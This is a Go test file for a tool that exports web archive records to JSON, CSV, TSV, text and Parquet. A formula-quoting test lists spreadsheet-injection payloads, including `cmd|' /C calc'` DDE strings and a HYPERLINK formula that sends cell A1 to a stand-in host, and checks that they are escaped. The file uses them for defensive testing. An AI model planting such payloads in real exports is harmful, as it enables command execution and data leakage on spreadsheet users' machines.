package enrich

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// pages makes an archive with pages whose titles are hard to write down.
func pages(t *testing.T) *archive {
	t.Helper()
	a := new(archive)
	for i, title := range []string{"plain", `with "quotes", commas`, " Grüße\t\u2028 日本 \U0001F600", `back\slash`, ""} {
		a.add(t, fmt.Sprintf("http://www.example.com/%d?a=b&c", i), "text/html", "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<title>"+title+"</title><a href='/x'>one</a><a href='/y?z'>two, three</a>"+strings.Repeat("<p>text", i*1000))
	}
	return a
}

var titles = []any{"plain", `with "quotes", commas`, "Grüße 日本 \U0001F600", `back\slash`, nil}

func unzipped(t *testing.T, path string) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(z)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestSavedFilesAreReadByOthers reads what is saved with Python's json and csv, with
// pyarrow and DuckDB.
func TestSavedFilesAreReadByOthers(t *testing.T) {
	python := os.Getenv("ARCHIVESTREAM_PYTHON")
	if python == "" {
		t.Skip("ARCHIVESTREAM_PYTHON does not name a python with pyarrow and duckdb")
	}
	a := pages(t)
	for _, save := range []string{"json", "documents", "csv", "parquet"} {
		r := a.run(t, MapperOptions{Options: Options{Enrich: []string{"title,length,links"}}, Save: save, Workers: 2})
		if r.err != nil || r.rejects != "" {
			t.Fatalf("%s: %v, %s", save, r.err, r.rejects)
		}
		folder := filepath.Join(t.TempDir(), save)
		if err := os.Rename(r.dir, folder); err != nil {
			t.Fatal(err)
		}
		out, err := exec.Command(python, "testdata/read_saved.py", folder).Output()
		if err != nil {
			t.Fatalf("%s: %v: %s", save, err, err.(*exec.ExitError).Stderr)
		}
		read := 0
		for line := range strings.Lines(string(out)) {
			how, list, _ := strings.Cut(strings.TrimSpace(line), "\t")
			if how == "duckdb-json" {
				if list != "[[5, 5]]" {
					t.Errorf("%s: %s", how, list)
				}
				continue
			}
			var rows []map[string]any
			if err := json.Unmarshal([]byte(list), &rows); err != nil {
				t.Fatalf("%s: %v", how, err)
			}
			checkRows(t, save+" by "+how, rows)
			read++
		}
		if want := map[string]int{"json": 1, "documents": 1, "csv": 2, "parquet": 2}[save]; read != want {
			t.Errorf("%s: read %d times", save, read)
		}
	}
}

// checkRows looks for titles and lengths of the pages.
func checkRows(t *testing.T, how string, rows []map[string]any) {
	t.Helper()
	if len(rows) != len(titles) {
		t.Errorf("%s: %d rows", how, len(rows))
		return
	}
	for i, row := range rows {
		var title, length any
		switch {
		case strings.HasPrefix(how, "json"):
			text := row["payload"].(map[string]any)["string"].(map[string]any)
			title, length = text["html"].(map[string]any)["title"], text["length"]
		case strings.HasPrefix(how, "documents"):
			title, length = row["title"], row["length"]
		default:
			title, length = row["payload.string.html.title"], row["payload.string.length"]
		}
		if title == "" {
			title = nil
		}
		if diff := cmp.Diff(titles[i], title); diff != "" {
			t.Errorf("%s: row %d:\n%s", how, i, diff)
		}
		if fmt.Sprint(length) == "" || fmt.Sprint(length) == "<nil>" {
			t.Errorf("%s: row %d has no length", how, i)
		}
	}
}

func TestRowsOfAList(t *testing.T) {
	a := pages(t)
	o := MapperOptions{Options: Options{
		Columns: []string{"date = timestamp[:8], source = host", "target = each.url", "anchor = each.text", "n = 1 + 1"},
		Each:    "links", Keep: []string{`title != "plain"`},
	}}
	o.Save = "csv"
	r := a.run(t, o)
	if r.err != nil {
		t.Fatal(r.err)
	}
	row := "20160117,www.example.com,/x,one,2\r\n20160117,www.example.com,/y?z,\"two, three\",2\r\n"
	if diff := cmp.Diff("date,source,target,anchor,n\r\n"+strings.Repeat(row, 4), unzipped(t, filepath.Join(r.dir, "part-00000.csv.gz"))); diff != "" {
		t.Error(diff)
	}
	o.Save = "tsv"
	if r = a.run(t, o); r.err != nil || r.out != strings.Repeat("20160117\twww.example.com\t/x\tone\t2\n20160117\twww.example.com\t/y?z\ttwo, three\t2\n", 4) {
		t.Errorf("%v, %q", r.err, r.out)
	}
}

func TestTextAndPretty(t *testing.T) {
	a := pages(t)
	r := a.run(t, MapperOptions{Save: "text", Options: Options{Enrich: []string{"title"}}})
	if got := unzipped(t, filepath.Join(r.dir, "part-00000.txt.gz")); got != "plain\nwith \"quotes\", commas\nGrüße 日本 \U0001F600\nback\\slash\n" {
		t.Errorf("%v, %q", r.err, got)
	}
	r = a.run(t, MapperOptions{Save: "json", Pretty: true, Options: Options{Enrich: []string{"title"}}})
	pretty := unzipped(t, filepath.Join(r.dir, "part-00000.json.gz"))
	plain := a.run(t, MapperOptions{Options: Options{Enrich: []string{"title"}}}).out
	d := json.NewDecoder(strings.NewReader(pretty))
	var b bytes.Buffer
	for d.More() {
		var raw json.RawMessage
		if err := d.Decode(&raw); err != nil {
			t.Fatal(err)
		}
		if err := json.Compact(&b, raw); err != nil {
			t.Fatal(err)
		}
		b.WriteByte('\n')
	}
	if !strings.Contains(pretty, "{\n  \"record\": {\n    \"surtUrl\"") {
		t.Errorf("%.200s", pretty)
	}
	if diff := cmp.Diff(plain, b.String()); diff != "" {
		t.Error(diff)
	}
}

func TestDocuments(t *testing.T) {
	var a archive
	a.add(t, "http://www.example.com/1", "text/html", "HTTP/1.1 200 OK\r\n\r\n<title>A</title>b")
	a.add(t, "http://www.example.com/2", "text/plain", "HTTP/1.1 200 OK\r\n\r\n<c>\n")
	a.add(t, "http://www.example.com/3", "image/png", "HTTP/1.1 200 OK\r\n\r\n\x89PNG")
	r := a.run(t, MapperOptions{Save: "documents", Options: Options{Enrich: []string{"payload.mime"}}})
	if r.err != nil {
		t.Fatal(r.err)
	}
	got := unzipped(t, filepath.Join(r.dir, "part-00000.json.gz"))
	if !strings.Contains(got, `,"payload.mime":"text/html"}`) {
		t.Errorf("no further attribute in %s", got)
	}
	for i, want := range []map[string]any{
		{"url": "http://www.example.com/1", "mime": "text/html", "title": "A", "bytes": 17.0, "text": "A\nb"},
		{"url": "http://www.example.com/2", "mime": "text/plain", "title": "", "bytes": 4.0, "text": "<c>\n"},
		{"url": "http://www.example.com/3", "mime": "image/png", "title": "", "bytes": 4.0, "text": ""},
	} {
		fields := strings.Split(a.plan[i], "\t")
		offset, _ := strconv.ParseFloat(fields[1], 64)
		length, _ := strconv.ParseFloat(fields[3], 64)
		want["id"] = fmt.Sprintf("archive.warc.gz:%d", int(offset))
		want["hostname"], want["timestamp"] = "www.example.com", 1453030373000.0
		want["filename"], want["offset"], want["length"] = "archive.warc.gz", offset, length
		var have map[string]any
		if err := json.Unmarshal([]byte(strings.Split(got, "\n")[i]), &have); err != nil {
			t.Fatal(err)
		}
		delete(have, "payload.mime")
		if diff := cmp.Diff(want, have); diff != "" {
			t.Errorf("document %d:\n%s", i, diff)
		}
	}
}

// formulas are titles as pages have them, and what the cells of CSV hold of them.
var formulas = [][2]string{
	{`=HYPERLINK("http://x/?"&A1,"more")`, `'=HYPERLINK("http://x/?"&A1,"more")`},
	{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)", "'@SUM(1+1)"},
	{"＝1+1", "'＝1+1"},
	{"-5.25", "-5.25"}, {"+49 30 1234", "'+49 30 1234"}, {"-", "-"}, {"a=b", "a=b"}, {"'quoted'", "'quoted'"}, {"1+1", "1+1"},
}

// TestFormulasAreQuoted has titles that spreadsheets would compute: with an apostrophe
// in front in CSV, unless it is to be raw, as read by Python's csv and by DuckDB; in
// Parquet as they are. Numbers stay numbers.
func TestFormulasAreQuoted(t *testing.T) {
	var a archive
	for i, f := range formulas {
		a.add(t, fmt.Sprintf("http://example.com/%d", i), "text/html", "HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<title>"+f[0]+"</title>")
	}
	columns := []string{"title = payload.string.html.title", "tab = '\t=1'", "below = 0 - payload.length", "cr = '\\r+1'"}
	for _, test := range []struct {
		save string
		raw  bool
	}{{"csv", false}, {"csv", true}, {"parquet", false}} {
		r := a.run(t, MapperOptions{Options: Options{Columns: columns}, Save: test.save, RawCSV: test.raw, Workers: 2})
		if r.err != nil || r.rejects != "" {
			t.Fatalf("%v, %s", r.err, r.rejects)
		}
		asWritten := test.raw || test.save == "parquet"
		check := func(how string, rows []map[string]any) {
			if len(rows) != len(formulas) {
				t.Fatalf("%s: %d rows", how, len(rows))
			}
			for i, row := range rows {
				want := map[string]string{"title": formulas[i][1], "tab": "'\t=1", "cr": "'\r+1"}
				if asWritten {
					want = map[string]string{"title": formulas[i][0], "tab": "\t=1", "cr": "\r+1"}
				}
				for name, value := range want {
					if got := fmt.Sprint(row[name]); got != value {
						t.Errorf("%s %s, raw %v: %s: %q, want %q", how, test.save, test.raw, name, got, value)
					}
				}
				if below := fmt.Sprint(row["below"]); !strings.HasPrefix(below, "-") {
					t.Errorf("%s: below: %q", how, below)
				}
			}
		}
		if test.save == "csv" {
			check("Go", rowsOfCSV(t, r.dir))
		}
		if python := os.Getenv("ARCHIVESTREAM_PYTHON"); python != "" {
			out, err := exec.Command(python, "testdata/read_saved.py", r.dir).Output()
			if err != nil {
				t.Fatalf("%v: %s", err, err.(*exec.ExitError).Stderr)
			}
			for line := range strings.Lines(string(out)) {
				how, list, _ := strings.Cut(line, "\t")
				var rows []map[string]any
				if err := json.Unmarshal([]byte(list), &rows); err != nil {
					t.Fatal(err)
				}
				check(how, rows)
			}
		}
	}
}

// rowsOfCSV reads the only part of a folder.
func rowsOfCSV(t *testing.T, dir string) (rows []map[string]any) {
	t.Helper()
	all := readCSV(t, dir)
	for _, cells := range all[1:] {
		row := map[string]any{}
		for i, name := range all[0] {
			row[name] = cells[i]
		}
		rows = append(rows, row)
	}
	return rows
}
